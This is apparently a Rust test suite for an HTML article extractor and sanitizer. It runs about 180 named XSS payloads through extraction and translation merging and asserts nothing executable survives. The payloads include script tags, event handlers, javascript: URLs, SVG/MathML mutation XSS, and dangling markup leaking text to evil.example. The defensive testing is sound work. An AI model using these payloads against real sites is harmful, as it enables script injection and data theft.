//! Hostile payloads inside a real-looking article: nothing executable may survive extraction.
//!
//! Each payload is placed twice, inline in a paragraph and as a block between paragraphs, in a
//! page the extractor must find an article in, and runs through the whole pipeline
//! (`lucid::extract`, which always sanitizes). The article's HTML is then parsed as a browser
//! would (and parsed again after a serialize round trip, to catch mutation XSS) and checked
//! element by element. A page that yields no article fails: a payload that never reached the
//! output proves nothing.
//!
//! The pipeline's cleaning removes much hostile markup before the sanitizer sees it, so each
//! payload also goes through the other door into the reader: as a translation returned by a
//! (hostile) translation service, which `segment::merge` sanitizes and inserts into the article.

use lucid::segments::{self, MergeOptions, Mode, Translation};
use lucid::{Options, extract};
use scraper::{ElementRef, Html, node::Node};

/// `(name, html)`. Names say what the payload tries.
const PAYLOADS: &[(&str, &str)] = &[
    // Script in every disguise.
    ("script", "<script>alert(1)</script>"),
    ("script upper case", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script mixed case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script src", r#"<script src="https://evil.example/x.js"></script>"#),
    ("script slash src", r#"<script/src="https://evil.example/x.js"></script>"#),
    ("script type module", "<script type=module>import('https://evil.example/x.js')</script>"),
    ("script split by script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script nested", "<script><script>alert(1)</script></script>alert(2)</script>"),
    ("script spaces in tags", "<script >alert(1)</script >"),
    ("script close in attribute", r#"<a title="</script><script>alert(1)</script>">x</a>"#),
    ("script in CDATA", "<![CDATA[<script>alert(1)</script>]]>"),
    ("script in comment", "<!--<script>alert(1)</script>-->"),
    ("comment broken by --!>", "<!-- --!><script>alert(1)</script> -->"),
    ("comment closed early by <!-->", "<!--><script>alert(1)</script>-->"),
    ("conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("script in table", "<table><script>alert(1)</script><tr><td>x</td></tr></table>"),
    ("script in select", "<select><option>a<script>alert(1)</script></option></select>"),
    ("script in noscript", "<noscript><script>alert(1)</script></noscript>"),
    ("script in textarea", "<textarea><script>alert(1)</script></textarea>"),
    ("script after empty title", "<title></title><script>alert(1)</script>"),
    ("script in svg", "<svg><script>alert(1)</script></svg>"),
    ("script xlink in svg", r#"<svg><script xlink:href="data:,alert(1)"></script></svg>"#),
    ("script escaped as text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script never closed", "<script>alert(1)"),
    // Event handlers on every kind of element.
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("img onerror slashes", "<img/src=x/onerror=alert(1)>"),
    ("img onerror mixed case", "<img src=x OnErRoR=alert(1)>"),
    ("img onerror spaced", "<img src=x onerror  =  alert(1)>"),
    ("img onerror entity body", r#"<img src=x onerror="&#97;lert(1)">"#),
    ("img onload", r#"<img src="https://example.com/a.png" onload=alert(1)>"#),
    ("img eval of src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("body onload", "<body onload=alert(1)>"),
    ("body onpageshow", "<body onpageshow=alert(1)>"),
    ("svg onload", "<svg onload=alert(1)>"),
    ("svg animate onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("div onclick", "<div onclick=alert(1)>click</div>"),
    ("div slash onclick", "<div/onclick=alert(1)>click</div>"),
    ("p onmouseover", "<p onmouseover=alert(1)>hover</p>"),
    ("a onmouseover", "<a onmouseover=alert(1)>hover</a>"),
    ("a onfocus autofocus", "<a href=#x onfocus=alert(1) autofocus>focus</a>"),
    ("input onfocus autofocus", "<input onfocus=alert(1) autofocus>"),
    ("keygen onfocus autofocus", "<keygen autofocus onfocus=alert(1)>"),
    ("details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>d</details>"),
    ("video onerror", "<video src=x onerror=alert(1)></video>"),
    ("audio onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("video source onerror", "<video><source src=x onerror=alert(1)></video>"),
    ("marquee onstart", "<marquee onstart=alert(1)>m</marquee>"),
    ("onanimationstart", "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(1)>a</p>"),
    ("ontransitionend", "<p style=transition:color\u{20}1s ontransitionend=alert(1)>t</p>"),
    ("onpointerenter", "<span onpointerenter=alert(1)>p</span>"),
    ("onbeforecopy", "<span onbeforecopy=alert(1)>c</span>"),
    ("handlers on article elements", "<h2 onclick=alert(1)>h</h2><ul><li onclick=alert(1)>l</li></ul><blockquote onclick=alert(1)>q</blockquote><pre onclick=alert(1)><code onclick=alert(1)>c</code></pre><figure onclick=alert(1)><figcaption onclick=alert(1)>f</figcaption></figure>"),
    ("handler on table cell", "<table><tr><td onclick=alert(1)>c</td></tr></table>"),
    ("handler on time", "<time onclick=alert(1) datetime=2024-01-01>t</time>"),
    ("handler on custom element", "<x-widget onclick=alert(1)>w</x-widget>"),
    ("handler on unknown element", "<xss onclick=alert(1)>w</xss>"),
    ("iframe onload", "<iframe onload=alert(1)></iframe>"),
    ("object onerror", "<object data=x onerror=alert(1)></object>"),
    ("button formaction", "<form><button formaction=javascript:alert(1)>go</button></form>"),
    ("input image onerror", "<input type=image src=x onerror=alert(1)>"),
    // javascript: (and friends) in every attribute that takes a URL.
    ("a href javascript", r#"<a href="javascript:alert(1)">x</a>"#),
    ("a href mixed case", r#"<a href="JaVaScRiPt:alert(1)">x</a>"#),
    ("a href decimal entity", r#"<a href="&#106;avascript:alert(1)">x</a>"#),
    ("a href hex entity", r#"<a href="&#x6A;avascript:alert(1)">x</a>"#),
    ("a href entities without semicolons", r#"<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>"#),
    ("a href tab entity", r#"<a href=" jav&#x09;ascript:alert(1)">x</a>"#),
    ("a href newline entity", r#"<a href="jav&#10;ascript:alert(1)">x</a>"#),
    ("a href NewLine named entity", r#"<a href="jav&NewLine;ascript&colon;alert(1)">x</a>"#),
    ("a href literal tab", "<a href=\"jav\tascript:alert(1)\">x</a>"),
    ("a href colon entity", r#"<a href="javascript&colon;alert(1)">x</a>"#),
    ("a href colon hex entity", r#"<a href="javascript&#x3A;alert(1)">x</a>"#),
    ("a href leading spaces", r#"<a href="   javascript:alert(1)">x</a>"#),
    ("a href leading control char", r#"<a href="&#x01;&#x1F;javascript:alert(1)">x</a>"#),
    ("a href space entity", r#"<a href="&#x20;javascript:alert(1)">x</a>"#),
    ("a href inner space", r#"<a href="java script:alert(1)">x</a>"#),
    ("a href javascript comment newline", r#"<a href="javascript://%0aalert(1)">x</a>"#),
    ("a href vbscript", r#"<a href="vbscript:msgbox(1)">x</a>"#),
    ("a href livescript", r#"<a href="livescript:alert(1)">x</a>"#),
    ("a href data text/html", r#"<a href="data:text/html,<script>alert(1)</script>">x</a>"#),
    ("a href data base64", r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#),
    ("a href DATA upper case", r#"<a href="DATA:text/html,<script>alert(1)</script>">x</a>"#),
    ("a xlink:href", r#"<a xlink:href="javascript:alert(1)">x</a>"#),
    ("a ping", r#"<a href="https://ok.example/" ping="javascript:alert(1)">x</a>"#),
    ("area href", r#"<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map><img src=x usemap=#m>"#),
    ("img src javascript", r#"<img src="javascript:alert(1)">"#),
    ("img src literal tab", "<img src=\"jav\tascript:alert(1)\">"),
    ("img srcset javascript", r#"<img srcset="javascript:alert(1) 1x">"#),
    ("img srcset second candidate", r#"<img srcset="https://ok.example/a.jpg 1x, javascript:alert(1) 2x">"#),
    ("img srcset commas only", r#"<img srcset=",,,,javascript:alert(1)">"#),
    ("img src data svg", r#"<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">"#),
    ("img src data svg raw", r#"<img src="data:image/svg+xml,<svg onload=alert(1)>">"#),
    ("img src data html", r#"<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">"#),
    ("img lowsrc dynsrc longdesc", r#"<img src=x lowsrc="javascript:alert(1)" dynsrc="javascript:alert(2)" longdesc="javascript:alert(3)">"#),
    ("img usemap", r#"<img src=x usemap="javascript:alert(1)">"#),
    ("lazy data-src javascript", r#"<img data-src="javascript:alert(1)">"#),
    ("lazy data-src beside src", r#"<img src="https://example.com/p.gif" data-src="javascript:alert(1)" data-srcset="javascript:alert(2) 1x">"#),
    ("lazy data-original", r#"<img data-original="javascript:alert(1)" data-lazy-src="vbscript:x">"#),
    ("lazy data-src data html", r#"<img data-src="data:text/html,<script>alert(1)</script>">"#),
    ("picture source srcset", r#"<picture><source srcset="javascript:alert(1)"><img src="https://example.com/a.jpg"></picture>"#),
    ("video poster", r#"<video poster="javascript:alert(1)"></video>"#),
    ("video src", r#"<video src="javascript:alert(1)"></video>"#),
    ("source src", r#"<video><source src="javascript:alert(1)"></video>"#),
    ("track src", r#"<video><track src="javascript:alert(1)"></video>"#),
    ("audio src", r#"<audio src="javascript:alert(1)"></audio>"#),
    ("input image src", r#"<input type=image src="javascript:alert(1)">"#),
    ("blockquote cite", r#"<blockquote cite="javascript:alert(1)">q</blockquote>"#),
    ("q cite", r#"<q cite="javascript:alert(1)">q</q>"#),
    ("del and ins cite", r#"<del cite="javascript:alert(1)">d</del><ins cite="vbscript:x">i</ins>"#),
    ("table background", r#"<table background="javascript:alert(1)"><tr><td background="javascript:alert(2)">x</td></tr></table>"#),
    ("body background", r#"<body background="javascript:alert(1)">"#),
    ("form action", r#"<form action="javascript:alert(1)"><input type=submit></form>"#),
    ("input formaction", r#"<form><input type=submit formaction="javascript:alert(1)"></form>"#),
    ("isindex", r#"<isindex action="javascript:alert(1)" type=image>"#),
    ("html manifest", r#"<html manifest="javascript:alert(1)">"#),
    ("command icon", r#"<command icon="javascript:alert(1)">"#),
    ("object data", r#"<object data="javascript:alert(1)"></object>"#),
    ("object data html", r#"<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>"#),
    ("object codebase", r#"<object codebase="javascript:alert(1)"><param name=x value=y></object>"#),
    ("embed src", r#"<embed src="javascript:alert(1)">"#),
    ("embed svg", r#"<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">"#),
    ("applet code", r#"<applet code="javascript:alert(1)"></applet>"#),
    ("frame src", r#"<frameset><frame src="javascript:alert(1)"></frameset>"#),
    ("bgsound src", r#"<bgsound src="javascript:alert(1)">"#),
    // Frames.
    ("iframe src javascript", r#"<iframe src="javascript:alert(1)"></iframe>"#),
    ("iframe src data html", r#"<iframe src="data:text/html,<script>alert(1)</script>"></iframe>"#),
    ("iframe srcdoc", r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#),
    ("iframe srcdoc escaped", r#"<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>"#),
    ("iframe other host", r#"<iframe src="https://evil.example/embed"></iframe>"#),
    ("iframe lookalike host", r#"<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>"#),
    ("iframe video host over http", r#"<iframe src="http://www.youtube.com/embed/x"></iframe>"#),
    ("dangling img src", "<img src=\"https://evil.example/leak?<p>The secret text that follows</p><p class=\"note\">more</p>"),
    ("dangling link href", "<a href='https://evil.example/?\nsecret'>x</a><p>secret</p>"),
    ("dangling with tab", "<img src=\"https://evil.example/\tx?\">"),
    ("iframe user-content subdomain", r#"<iframe src="https://evil.archive.org/embed/x"></iframe>"#),
    ("iframe user upload", r#"<iframe src="https://archive.org/download/x/page.html"></iframe>"#),
    ("iframe uploaded svg", r#"<iframe src="https://upload.wikimedia.org/wikipedia/commons/x/evil.svg"></iframe>"#),
    ("iframe player host redirect", r#"<iframe src="https://www.youtube.com/redirect?q=https://evil.example/"></iframe>"#),
    ("iframe video host with handlers", r#"<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" srcdoc="<script>alert(2)</script>" name="parent"></iframe>"#),
    ("iframe content as markup", "<iframe><img src=x onerror=alert(1)></iframe>"),
    ("svg foreignObject iframe", r#"<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>"#),
    // SVG, MathML and mutation-XSS shapes.
    ("svg a xlink:href", r#"<svg><a xlink:href="javascript:alert(1)"><text x=0 y=9>x</text></a></svg>"#),
    ("svg a href", r#"<svg><a href="javascript:alert(1)"><rect width=9 height=9></rect></a></svg>"#),
    ("svg set href", r#"<svg><a><set attributeName=href to="javascript:alert(1)"></set><text>x</text></a></svg>"#),
    ("svg image href", r#"<svg><image href="javascript:alert(1)"></image></svg>"#),
    ("svg use data", r#"<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"></use></svg>"#),
    ("svg style img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("svg desc img", "<svg><desc><img src=x onerror=alert(1)></desc></svg>"),
    ("svg CDATA img", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("svg p style breakout", r#"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#),
    ("math href", r#"<math href="javascript:alert(1)">x</math>"#),
    ("math maction xlink", r#"<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>"#),
    ("math mglyph style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math mglyph comment", r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">"#),
    ("math form mglyph", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("math style img", "<math><style><img src=x onerror=alert(1)></style></math>"),
    ("math annotation-xml", r#"<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>"#),
    ("noscript title breakout", r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#),
    ("noembed title breakout", r#"<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>"#),
    ("noframes breakout", r#"<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>"#),
    ("xmp breakout", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("textarea breakout", r#"<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>"#),
    ("title breakout", r#"<title><p title="</title><img src=x onerror=alert(1)>"></title>"#),
    ("template script", "<template><script>alert(1)</script><img src=x onerror=alert(2)></template>"),
    ("template shadowroot", r#"<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>"#),
    // Styles.
    ("style import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style url javascript", r#"<style>body{background:url("javascript:alert(1)")}</style>"#),
    ("style attribute url", r#"<p style="background:url(javascript:alert(1))">s</p>"#),
    ("style attribute expression", r#"<p style="width:expression(alert(1))">s</p>"#),
    ("style attribute behavior", r#"<p style="behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#x)">s</p>"#),
    ("style attribute on unknown element", r#"<xss style="xss:expression(alert(1))">s</xss>"#),
    ("link stylesheet", r#"<link rel=stylesheet href="javascript:alert(1)">"#),
    ("link import", r#"<link rel=import href="https://evil.example/x.html">"#),
    // Page-level hijacks.
    ("meta refresh javascript", r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#),
    ("meta refresh elsewhere", r#"<meta http-equiv=refresh content="0; url=https://evil.example/">"#),
    ("meta csp", r#"<meta http-equiv="Content-Security-Policy" content="script-src *">"#),
    ("base javascript", "<base href=javascript:alert(1)//>"),
    ("base other origin", "<base href=//evil.example/>"),
    ("utf-7 text", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    // DOM clobbering: names and ids that shadow document and window properties.
    ("img name clobbers document", r#"<img name="getElementById" src="https://example.com/a.png">"#),
    ("form id clobbers", r#"<form id="location" name="cookie"><input name="attributes"></form>"#),
    ("embed and object names", r#"<embed name="body"><object name="defaultView"></object>"#),
    ("iframe name clobbers", r#"<iframe name="parent" src="https://player.vimeo.com/video/1"></iframe>"#),
    ("anchor id and name", r#"<a id="defaultView" name="cookie" href="https://ok.example/">a</a>"#),
];

/// Elements that must never appear in an article.
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "script", "object", "embed", "applet", "form", "input", "button", "select", "textarea",
    "keygen", "isindex", "base", "meta", "link", "style", "svg", "template", "frame",
    "frameset", "noscript", "noembed", "noframes", "xmp", "title", "area", "map", "bgsound",
    "marquee", "command", "param",
];
/// MathML elements a formula may keep: presentation markup only. Not `annotation-xml`,
/// `maction`, `mglyph`, `malignmark`, `semantics` or `annotation`, and never an HTML element
/// inside a formula: those are the shapes mutation XSS takes through MathML.
const FORMULA_ELEMENTS: &[&str] = &[
    "math", "mi", "mn", "mo", "ms", "mtext", "mspace", "mrow", "mfrac", "msqrt", "mroot", "mstyle",
    "merror", "mpadded", "mphantom", "menclose", "msub", "msup", "msubsup", "munder", "mover",
    "munderover", "mmultiscripts", "mprescripts", "none", "mtable", "mtr", "mtd", "mlabeledtr",
];
const MATHML: &str = "http://www.w3.org/1998/Math/MathML";

/// Attributes whose value is a URL somewhere in HTML, SVG or legacy browsers.
const URL_ATTRIBUTES: &[&str] = &[
    "href", "src", "poster", "cite", "action", "formaction", "xlink:href", "background", "data",
    "longdesc", "lowsrc", "dynsrc", "usemap", "ping", "manifest", "icon", "codebase", "code",
];
/// Attributes that carry code or markup whatever their element.
const CODE_ATTRIBUTES: &[&str] = &["srcdoc", "style", "http-equiv", "formaction", "action"];

/// Raster `data:` images, the only `data:` URL an image may keep.
const RASTER_DATA_PREFIXES: &[&str] = &[
    "data:image/png;base64,", "data:image/jpeg;base64,", "data:image/jpg;base64,",
    "data:image/gif;base64,", "data:image/webp;base64,", "data:image/avif;base64,",
];

const MARKER: &str = "Quillfeather";

const PARAGRAPHS: &[&str] = &[
    "The city council met on Tuesday evening to debate the new transit plan, which would add three bus lines, extend the light rail to the airport, and rebuild the central station over the next eight years. Residents packed the chamber, and the meeting ran well past midnight as speaker after speaker took the microphone.",
    "Supporters argued that the plan, for all its cost, is the only way to keep traffic from choking the downtown core as the population grows. Opponents questioned the ridership estimates, pointing out that the last expansion fell short of its targets by nearly a third, and asked who would pay if the numbers missed again.",
    "The finance committee presented a revised budget that spreads the cost over a longer period, relying on a mix of federal grants, a modest sales tax increase, and bonds. Several members said they were still not convinced, but agreed that the revised figures were a significant improvement over the first draft.",
    "In the end the council voted seven to four to approve the first phase, which covers the bus lines and the design work for the station. The rail extension will come back for a separate vote next spring, once the environmental review is complete and the state has confirmed its share of the funding.",
    "The mayor called the vote a historic step and thanked the residents who had spent the evening in the chamber. Critics promised to keep pressing for a public referendum on the rail extension, and a group of neighbourhood associations said it would file a formal objection before the end of the month.",
];

/// A realistic article page with `payload` inline in the third paragraph (`inline`) or as a
/// block right after it. [`MARKER`] sits just before the payload, so its presence in the output
/// shows the payload's neighbourhood reached the sanitizer.
fn page(payload: &str, inline: bool) -> String {
    let mut body = String::new();
    for (i, text) in PARAGRAPHS.iter().enumerate() {
        if i == 2 && inline {
            body.push_str(&format!("<p>{MARKER} says: {payload} {text}</p>\n"));
        } else if i == 2 {
            body.push_str(&format!("<p>{text} {MARKER} says so.</p>\n{payload}\n"));
        } else {
            body.push_str(&format!("<p>{text}</p>\n"));
        }
    }
    format!(
        "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\">\
         <title>Council approves transit plan - Example News</title></head><body>\
         <nav><a href=\"/\">Home</a> <a href=\"/news\">News</a> <a href=\"/sport\">Sport</a></nav>\
         <main><article><h1>Council approves transit plan</h1>\
         <p class=\"byline\">By Jane Doe</p>\n{body}</article></main>\
         <footer><p>Copyright Example News</p></footer></body></html>"
    )
}

/// The value a URL attribute has once every white space and control character is gone and
/// letters are lower case: the most permissive way any browser ever read a scheme.
fn squeezed(value: &str) -> String {
    value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).flat_map(char::to_lowercase).collect()
}

fn is_dangerous_url(element: &str, attribute: &str, value: &str) -> bool {
    let url = squeezed(value);
    if url.starts_with("data:") {
        return !(element == "img"
            && attribute == "src"
            && RASTER_DATA_PREFIXES.iter().any(|p| url.starts_with(p)));
    }
    ["javascript:", "vbscript:", "livescript:"].iter().any(|scheme| url.starts_with(scheme))
}

/// The oracle's own list of player pages (not the product's table): an exact host and path.
const PLAYERS: &[&str] = &[
    "www.youtube.com/embed/", "youtube.com/embed/", "www.youtube-nocookie.com/embed/", "player.vimeo.com/video/",
    "www.dailymotion.com/embed/video/", "geo.dailymotion.com/player", "archive.org/embed/", "player.twitch.tv/",
    "embed.ted.com/talks/", "player.bilibili.com/player.html", "v.qq.com/txp/iframe/player.html", "player.youku.com/embed/",
];

fn is_video_embed(src: Option<&str>) -> bool {
    let Some(url) = src.and_then(|s| url::Url::parse(s).ok()) else { return false };
    let page = format!("{}{}", url.host_str().unwrap_or_default(), url.path());
    url.scheme() == "https" && url.port().is_none() && PLAYERS.iter().any(|p| page.starts_with(p))
}

/// Everything executable or hijacking in a parsed article, described for the failure message.
fn problems(fragment: &Html) -> Vec<String> {
    let mut found = Vec::new();
    for node in fragment.tree.nodes() {
        let Node::Element(element) = node.value() else { continue };
        let name = element.name();
        let in_formula = node.ancestors().any(|a| a.value().as_element().is_some_and(|e| &*e.name.ns == MATHML));
        match &*element.name.ns {
            MATHML if FORMULA_ELEMENTS.contains(&name) => {}
            "http://www.w3.org/1999/xhtml" if !in_formula => {}
            "http://www.w3.org/1999/xhtml" => found.push(format!("<{name}> inside a formula")),
            other => found.push(format!("<{name}> in namespace {other}")),
        }
        if FORBIDDEN_ELEMENTS.contains(&name) {
            found.push(format!("<{name}> element"));
        }
        if name == "iframe" && !is_video_embed(element.attr("src")) {
            found.push(format!("<iframe> not from a video host: {:?}", element.attr("src")));
        }
        for (attribute, value) in element.attrs() {
            if attribute.starts_with("on") {
                found.push(format!("<{name} {attribute}>"));
            }
            if CODE_ATTRIBUTES.contains(&attribute) {
                found.push(format!("<{name} {attribute}={value:?}>"));
            }
            if attribute == "name" && name != "a" {
                found.push(format!("<{name} name={value:?}> (clobbering)"));
            }
            let urls: Vec<&str> = if attribute == "srcset" {
                value.split(',').filter_map(|c| c.split_whitespace().next()).collect()
            } else if URL_ATTRIBUTES.contains(&attribute) || attribute.starts_with("data-") {
                vec![value]
            } else {
                vec![]
            };
            if urls.iter().any(|url| is_dangerous_url(name, attribute, url)) {
                found.push(format!("<{name} {attribute}={value:?}>"));
            }
            if URL_ATTRIBUTES.contains(&attribute) && value.contains(['<', '\n', '\r', '\t']) {
                found.push(format!("<{name} {attribute}={value:?}> (dangling markup)"));
            }
        }
    }
    found
}

/// Check an article's HTML as a browser parses it, and again after a serialize/parse round trip
/// (the shape mutation XSS takes: markup that changes meaning when re-parsed).
fn check_content(content: &str) -> Vec<String> {
    let first = Html::parse_fragment(content);
    let mut found = problems(&first);
    let again = Html::parse_fragment(&ElementRef::wrap(first.tree.root().first_child().unwrap())
        .map(|root| root.inner_html())
        .unwrap_or_default());
    found.extend(problems(&again).into_iter().map(|p| format!("after re-parse: {p}")));
    found
}

/// Run one payload through the pipeline in one placement; describe what went wrong.
fn run(name: &str, payload: &str, inline: bool) -> Option<String> {
    let placement = if inline { "inline" } else { "block" };
    let html = page(payload, inline);
    let article = match extract(&html, &Options::with_url("https://example.com/a")) {
        Ok(Some(article)) => article,
        Ok(None) => return Some(format!("{name} ({placement}): no article found")),
        Err(error) => return Some(format!("{name} ({placement}): error {error}")),
    };
    let mut issues = check_content(&article.content);
    if !article.content.contains(MARKER) {
        issues.push("the payload's paragraph is not in the article, so it proved nothing".into());
    }
    (!issues.is_empty()).then(|| format!("{name} ({placement}): {}", issues.join("; ")))
}

#[test]
fn at_least_a_hundred_payloads_with_unique_names() {
    assert!(PAYLOADS.len() >= 100, "only {} payloads", PAYLOADS.len());
    let mut names: Vec<&str> = PAYLOADS.iter().map(|(name, _)| *name).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), PAYLOADS.len(), "payload names must be unique");
}

#[test]
fn nothing_executable_survives_inline() {
    let failures: Vec<String> =
        PAYLOADS.iter().filter_map(|(name, payload)| run(name, payload, true)).collect();
    assert!(failures.is_empty(), "{} of {} payloads:\n{}", failures.len(), PAYLOADS.len(), failures.join("\n"));
}

#[test]
fn nothing_executable_survives_as_block() {
    let failures: Vec<String> =
        PAYLOADS.iter().filter_map(|(name, payload)| run(name, payload, false)).collect();
    assert!(failures.is_empty(), "{} of {} payloads:\n{}", failures.len(), PAYLOADS.len(), failures.join("\n"));
}

/// Every payload as the translation of every segment of a small article, in both modes.
#[test]
fn nothing_executable_survives_a_translation() {
    let content = r#"<h2 id="intro">Introduction</h2><p>The council met on <a href="https://example.com/x" rel="noopener noreferrer">Tuesday</a>.</p><ul><li>First point</li></ul><blockquote cite="https://example.com/q"><p>Quoted words.</p></blockquote>"#;
    let segmented = segments::split(content);
    assert!(segmented.segments.len() >= 4, "{:?}", segmented.segments);
    let mut failures = Vec::new();
    for (name, payload) in PAYLOADS {
        let translations: Vec<Translation> = segmented
            .segments
            .iter()
            .map(|s| Translation { id: s.id.clone(), html: format!("{MARKER} {payload}") })
            .collect();
        for mode in [Mode::Replace, Mode::Bilingual] {
            let merged = segments::merge(&segmented, &translations, &MergeOptions { mode, lang: None });
            let mut issues = check_content(&merged);
            if !merged.contains(MARKER) {
                issues.push("the translation was not inserted, so it proved nothing".into());
            }
            if !issues.is_empty() {
                failures.push(format!("{name} ({mode:?}): {}", issues.join("; ")));
            }
        }
    }
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
}

/// The checker itself must catch what it is meant to catch, or every test above passes vacuously.
#[test]
fn the_checker_sees_hostile_markup() {
    for (hostile, what) in [
        ("<script>alert(1)</script>", "script"),
        ("<img src=x onerror=alert(1)>", "onerror"),
        ("<a href=' jav&#x09;ascript:alert(1)'>x</a>", "href"),
        ("<img srcset='a.jpg 1x, javascript:alert(1) 2x'>", "srcset"),
        ("<img src='data:image/svg+xml;base64,PHN2Zz4='>", "data:image/svg"),
        ("<iframe src='https://evil.example/'></iframe>", "iframe"),
        ("<iframe srcdoc='x' src='https://www.youtube.com/embed/x'></iframe>", "srcdoc"),
        ("<p style='color:red'>x</p>", "style"),
        ("<svg><a href='#'>x</a></svg>", "svg"),
        ("<img name=x>", "clobbering"),
        ("<img src='https://evil.example/?<p>secret'>", "dangling"),
    ] {
        let found = check_content(hostile);
        assert!(found.iter().any(|p| p.contains(what)), "{hostile}: {found:?}");
    }
    let fine = r#"<p>x <a href="https://ok.example/" rel="noopener noreferrer">y</a></p><img src="data:image/png;base64,iVBORw0KGgo="><iframe src="https://www.youtube.com/embed/x" sandbox=""></iframe>"#;
    assert_eq!(check_content(fine), Vec::<String>::new());
}

/// The hostile-payload table by family (tests/hostile/vectors.json, generated by vectors.mjs:
/// URL schemes in every URL attribute, mutation XSS, SVG/MathML, CSS overlays, clobbering,
/// dangling markup, encodings), each vector inline and as a block. The browser tests run the
/// same table through the reading view and saved files with a canary.
#[test]
fn nothing_executable_survives_the_family_table() {
    let table: Vec<serde_json::Value> = serde_json::from_str(include_str!("hostile/vectors.json")).expect("vectors.json");
    assert!(table.len() >= 500, "only {} vectors", table.len());
    let failures: Vec<String> = table
        .iter()
        .flat_map(|vector| {
            let (name, html) = (vector["name"].as_str().unwrap(), vector["html"].as_str().unwrap());
            [run(name, html, true), run(name, html, false)]
        })
        .flatten()
        .collect();
    assert!(failures.is_empty(), "{} of {} placements:\n{}", failures.len(), 2 * table.len(), failures.join("\n"));
}
